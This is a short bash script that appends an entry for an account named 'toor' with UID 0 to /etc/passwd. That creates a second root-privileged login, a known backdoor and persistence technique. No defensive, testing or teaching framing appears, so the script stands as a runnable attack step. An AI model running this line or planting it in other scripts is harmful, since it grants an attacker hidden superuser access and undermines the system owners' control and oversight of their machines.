#!/usr/bin/env bash
set -euo pipefail
echo "toor:x:0:0::/root:/bin/bash" >>/etc/passwd
